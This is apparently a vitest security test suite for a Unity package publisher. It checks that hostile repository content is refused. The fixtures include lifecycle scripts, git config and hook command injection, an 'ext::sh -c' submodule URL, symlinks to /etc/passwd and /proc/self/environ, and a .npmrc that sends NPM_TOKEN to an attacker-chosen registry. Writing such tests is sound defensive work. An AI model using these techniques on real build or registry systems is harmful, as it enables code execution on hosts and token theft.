import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { meta, type TreeFiles, unityPackage } from '../../sandbox/unity-repository.ts';
import type { JobShown } from '../../sandbox/world.ts';
import { folderOf } from '../world/releasing.ts';
import { packageOf } from '../world/report-reading.ts';
import { filesOf, manifestOf } from '../world/tarballs.ts';
import { type HostileWorld, startHostileWorld } from './hostile-world.ts';
import { findPlanted } from './planted.ts';

let hostile: HostileWorld;

beforeAll(async () => {
  hostile = await startHostileWorld(['studio/rooted']);
});

afterAll(async () => hostile.stop());

interface Extra {
  readonly manifest?: Readonly<Record<string, unknown>>;
  readonly files?: TreeFiles;
}

function packageWith(name: string, extra: Extra = {}): TreeFiles {
  return unityPackage(name, '1.0.0', { folder: folderOf(name), ...extra });
}

/** What an attacker gains who may push: our environment with every token, and a shell on the host. */
describe('code in a repository', () => {
  it('is not run by any script of the manifest, and the registry does not get these scripts', async () => {
    const run = `touch ${hostile.marker}`;
    const names = ['preinstall', 'install', 'postinstall', 'prepublish', 'prepublishOnly', 'publish'];
    const all = [...names, 'postpublish', 'prepack', 'prepare', 'postpack', 'preversion', 'version'];
    const name = 'com.studio.scripts';
    const scripts = Object.fromEntries(all.map((script) => [script, run]));
    const job = await hostile.attack({
      files: packageWith(name, { manifest: { scripts, gypfile: true }, files: { 'binding.gyp~': '{}' } }),
    });
    expect(packageOf(job, name).outcome).toBe('published');
    expect(await manifestOf(hostile.world, name)).not.toHaveProperty('scripts');
  });

  it('is not run by an embedded repository, attributes, hooks or submodule settings', async () => {
    const run = `touch ${hostile.marker}`;
    const name = 'com.studio.embedded';
    const config = `[core]\n\trepositoryformatversion = 0\n\tbare = true\n\tfsmonitor = "${run}"\n\tsshCommand = "${run}"\n\tpager = "${run}"\n`;
    const job = await hostile.attack({
      files: packageWith(name, {
        files: {
          'Tools~/bare/HEAD': 'ref: refs/heads/main\n',
          'Tools~/bare/config': config,
          'Tools~/bare/objects/info/alternates': '/\n',
          'Tools~/bare/refs/heads/main': `${'0'.repeat(40)}\n`,
          'Tools~/bare/hooks/post-checkout': { executable: `#!/bin/sh\n${run}\n` },
          '.gitattributes': '* filter=evil diff=evil merge=evil ident export-subst\n',
          '.gitmodules': `[submodule "x"]\n\tpath = x\n\turl = ext::sh -c "${run}"\n\tupdate = !${run}\n`,
          '.lfsconfig': `[lfs]\n\turl = ${hostile.canaryUrl}\n`,
        },
      }),
    });
    expect(packageOf(job, name).outcome).toBe('published');
  });
});

/** What an attacker gains: any file of the host in a package that everybody can install. */
describe('a symbolic link', () => {
  const missing = [
    ['readme', 'README.md', '/etc/passwd'],
    ['environ', 'README.md', '/proc/self/environ'],
    ['hidden', 'Documentation~/link.md', '/etc/passwd'],
  ] as const;
  const stopped = [
    ['folder', 'Runtime/Host', '/etc'],
    ['root', 'Everything', '/'],
    ['inside', 'Runtime/Inside.cs', 'Example.cs'],
  ] as const;
  const instead = 'com.studio.environ';
  const called = (word: string): string => `com.studio.link.${word}`;
  let job: JobShown;

  beforeAll(async () => {
    const links = [
      ...missing,
      ...stopped,
      ['changelog', 'CHANGELOG.md', hostile.hostFile] as const,
      ['dot', '.tools/link', hostile.hostFile] as const,
    ];
    const packages = links.map(([word, path, symlink]) =>
      packageWith(called(word), { files: { [path]: { symlink } } }),
    );
    const manifest = { [`${folderOf(instead)}/package.json`]: { symlink: '/proc/self/environ' } };
    job = await hostile.attack({
      files: Object.assign({}, ...packages, packageWith(instead), manifest) as TreeFiles,
    });
  });

  it('in place of the manifest fails the package by name and is not followed', () => {
    expect(packageOf(job, folderOf(instead))).toMatchObject({
      outcome: 'failed',
      reason: 'manifest-invalid',
      title: `${folderOf(instead)}/package.json is a symbolic link; commit the file itself`,
    });
  });

  it.each(missing)(
    'called %s, without which Unity still works, is left out of the package (%s)',
    async (word, path) => {
      const item = packageOf(job, called(word));
      expect(item.outcome).toBe('published');
      expect(item.findings).toContainEqual(expect.objectContaining({ rule: 'path.symlink', file: path }));
      expect(await filesOf(hostile.world, called(word))).not.toContain(path);
    },
  );

  it.each(stopped)('called %s in a package stops it by name (%s)', async (word, path) => {
    expect(packageOf(job, called(word))).toMatchObject({
      outcome: 'failed',
      reason: 'preflight-rejected',
      title: `${path} is a symbolic link and was not packed; commit the file itself`,
      findings: [{ rule: 'path.symlink', file: path }],
    });
    expect(await hostile.world.packument(called(word))).toBeUndefined();
  });

  it('as CHANGELOG.md does not get the file behind it written', () => {
    expect(packageOf(job, called('changelog')).findings).toContainEqual(
      expect.objectContaining({ rule: 'path.symlink', file: 'CHANGELOG.md' }),
    );
  });

  it('in a dot folder, which npm would not ship as a link, is left out', async () => {
    expect(packageOf(job, called('dot')).outcome).toBe('published');
    expect(await filesOf(hostile.world, called('dot'))).not.toContain('.tools/link');
  });
});

/** What an attacker gains: whole folders of the host, packed as if they were modules. */
describe('bundled modules', () => {
  const ways = [
    [
      'as a link to a host folder',
      (folder: string): TreeFiles => ({ 'node_modules/host': { symlink: folder } }),
    ],
    ['as one link for all', (folder: string): TreeFiles => ({ node_modules: { symlink: folder } })],
    [
      'committed with links inside',
      (folder: string): TreeFiles => ({
        'node_modules/host/package.json': '{"name":"host","version":"1.0.0"}',
        'node_modules/host/link': { symlink: `${folder}/host.txt` },
      }),
    ],
  ] as const;
  const asks = [
    ['all', true],
    ['one', ['host']],
  ] as const;
  const called = (how: string, ask: string): string => `com.studio.bundle.${how.split(' ').at(-1)}.${ask}`;
  let job: JobShown;

  beforeAll(async () => {
    const packages = ways.flatMap(([how, files]) =>
      asks.map(([ask, bundleDependencies]) =>
        packageWith(called(how, ask), {
          manifest: {
            bundleDependencies,
            bundledDependencies: bundleDependencies,
            dependencies: { host: '1.0.0' },
          },
          files: files(hostile.hostFolder),
        }),
      ),
    );
    job = await hostile.attack({ files: Object.assign({}, ...packages) as TreeFiles });
  });

  it.each(ways)('%s are not packed', async (how) => {
    for (const [ask] of asks) {
      expect(packageOf(job, called(how, ask)).outcome).toBe('published');
      const packed = await filesOf(hostile.world, called(how, ask));
      expect(packed.filter((path) => path.includes('node_modules'))).toEqual([]);
    }
  });
});

/** What an attacker gains: the registry’s token, sent to a server of theirs. */
describe('a registry that the repository chooses', () => {
  it('in publishConfig is ignored: the package goes to ours', async () => {
    const name = 'com.studio.elsewhere';
    const registry = hostile.canaryUrl;
    const publishConfig = { registry, '@studio:registry': registry, access: 'public', tag: 'evil' };
    const job = await hostile.attack({ files: packageWith(name, { manifest: { publishConfig } }) });
    expect(packageOf(job, name)).toMatchObject({ outcome: 'published', distTag: 'latest' });
    expect(await manifestOf(hostile.world, name)).not.toHaveProperty('publishConfig');
  });

  it('in .npmrc files is ignored, and the files are not shipped', async () => {
    const name = 'com.studio.npmrc';
    const { host } = new URL(hostile.canaryUrl);
    const npmrc = `registry=${hostile.canaryUrl}\n//${host}/:_authToken=\${NPM_TOKEN}\nmain=\${STUDIO_PLANTED}\n`;
    const files = { ...unityPackage(name, '1.0.0', { files: { '.npmrc': npmrc, 'Tools~/.npmrc': npmrc } }) };
    const job = await hostile.attack({ files }, 'studio/rooted');
    expect(packageOf(job, name).outcome).toBe('published');
    const packed = await filesOf(hostile.world, name);
    expect(packed).toContain('Runtime/Example.cs');
    expect(packed.filter((path) => path.endsWith('.npmrc'))).toEqual([]);
  });

  it('and addresses in dependencies receive no request', async () => {
    const name = 'com.studio.urls';
    const url = `${hostile.canaryUrl}x.tgz`;
    const dependencies = { a: url, b: `git+${hostile.canaryUrl}x.git`, c: `file:${hostile.hostFile}` };
    const repository = { type: 'git', url: `${hostile.canaryUrl}x/y.git` };
    const manifest = { dependencies, repository, _resolved: url, dist: { tarball: url } };
    const job = await hostile.attack({ files: packageWith(name, { manifest }) });
    const item = packageOf(job, name);
    expect(item).toMatchObject({ outcome: 'failed', reason: 'preflight-rejected' });
    expect(new Set(item.findings.map(({ rule }) => rule))).toEqual(
      new Set(['deps.exact', 'manifest.dist-key']),
    );
  });
});

it('the search would have found the planted text, had it been packed', async () => {
  const name = 'com.studio.control';
  const files = packageWith(name, { files: { 'Data.txt': 'CONTROL-TEXT', 'Data.txt.meta': meta(name) } });
  await hostile.attack({ files });
  expect(await filesOf(hostile.world, name)).toContain('Data.txt');
  const storage = join(hostile.world.folder, 'registry', 'storage');
  expect(await findPlanted(storage, { control: 'CONTROL-TEXT' })).toEqual([
    `control in ${name}/${name}-1.0.0.tgz`,
  ]);
});
